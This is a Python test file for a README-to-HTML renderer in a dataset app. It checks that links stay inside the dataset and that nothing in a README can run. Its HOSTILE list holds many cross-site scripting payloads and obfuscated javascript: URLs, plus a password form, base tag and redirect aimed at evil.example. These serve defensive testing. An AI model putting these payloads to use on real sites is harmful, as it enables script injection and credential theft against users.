"""READMEs as HTML: nothing in them runs, nothing leaves the dataset unasked, links find their file."""

import re

import pytest

from app.downloads.readme import Addresses, inside_path, render_readme

ADDRESSES = Addresses(
    file=lambda path: f"/v/c/files/{path}",
    picture=lambda path: f"/api/{path}" if path.endswith(".png") else None,
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/path)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '[x](a.md "onmouseover=alert(1)")',
    '![x](a.png "\\" onerror=alert(1) x=\\"")',
    "<!-- --><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "***bold<script>alert(1)</script>***",
    "\x00<script>alert(1)</script>",
    "[x](http://[bad)",
    "![x](//[bad)",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
]
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", re.IGNORECASE)
ATTRIBUTE = re.compile(r"""([a-z-]+)\s*=\s*"([^"]*)\"""", re.IGNORECASE)
TAGS = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code"),
    *("em", "strong", "s", "a", "img", "table", "thead", "tbody", "tr", "th", "td"),
}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_readme_can_run_or_call_home(text):
    html = str(render_readme(text, ADDRESSES))

    tags = TAG.findall(html)
    attributes = [pair for _, rest in tags for pair in ATTRIBUTE.findall(rest)]
    assert {name.lower() for name, _ in tags} <= TAGS
    assert {name.lower() for name, _ in attributes} <= {"href", "src", "alt", "title", "rel", "start"}
    assert [value for name, value in attributes if name == "src" and not value.startswith("/api/")] == []
    hrefs = [value for name, value in attributes if name == "href"]
    assert [value for value in hrefs if not re.match(r"(https?:|mailto:|/v/c/|#)", value)] == []


def test_headings_move_down_because_the_page_has_its_own_title():
    assert render_readme("# A\n\n###### B\n", ADDRESSES) == "<h2>A</h2>\n<h6>B</h6>\n"


def test_relative_links_and_pictures_lead_into_the_dataset():
    html = render_readme("[t](./labels/../table%20one.csv) ![c](images/c.png)", ADDRESSES)

    assert 'href="/v/c/files/table one.csv"' in html
    assert '<img src="/api/images/c.png" alt="c">' in html


def test_a_foreign_picture_becomes_its_description():
    assert render_readme("![a cell](https://evil.example/c.png)", ADDRESSES) == "<p>a cell</p>\n"


def test_front_matter_is_not_shown():
    assert render_readme("---\ntitle: x\n---\nText", ADDRESSES) == "<p>Text</p>\n"


@pytest.mark.parametrize("text", ["[" * 50_000, "> " * 50_000, "*" * 100_000, "`" * 100_000, "- " * 20_000])
def test_deep_markdown_comes_to_an_end(text):
    assert len(render_readme(text, ADDRESSES)) < 1_000_000


@pytest.mark.parametrize(
    ("href", "path"),
    [
        ("a/b.csv", "a/b.csv"),
        ("/a.csv", "a.csv"),
        ("./a.csv#x", "a.csv"),
        ("a.csv?raw=1", "a.csv"),
        ("../up.csv", None),
        ("a/../../up.csv", None),
        ("https://x/y", None),
        ("//x/y", None),
        ("", None),
        ("#x", None),
        ("//[x", None),
        ("%00", None),
    ],
)
def test_which_addresses_mean_a_file_of_the_dataset(href, path):
    assert inside_path(href) == path
